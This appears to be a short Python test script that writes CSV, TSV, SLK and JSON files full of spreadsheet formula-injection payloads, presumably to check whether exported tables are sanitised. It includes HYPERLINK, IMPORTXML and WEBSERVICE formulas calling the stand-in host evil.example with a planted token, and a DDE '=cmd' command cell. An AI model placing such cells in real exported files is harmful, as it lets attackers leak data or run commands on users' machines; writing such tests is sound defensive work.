"""Tables that a spreadsheet would act on."""
import json

from planted import OUTPUT, token

rows = [
    f'=HYPERLINK("http://evil.example/{token()}","click")', f"=cmd|'/C {token()}'!A0", f'=IMPORTXML("http://evil.example/{token()}","//a")',
    f'@SUM({token()})', f'+{token()}', f'-{token()}', f'"a\nb","{token()}', f"'={token()}", f'=WEBSERVICE("http://evil.example/{token()}")',
]
for name in ('detailed.csv', 'detailed.tsv', 'detailed.slk', '=cmd.csv'):
    with open(f'{OUTPUT}/{name}', 'w') as table:
        table.write('\n'.join(rows))
with open(OUTPUT + '/scores.json', 'w') as scores:
    json.dump({'accuracy': 0.5, **{row: 1 for row in rows}}, scores)
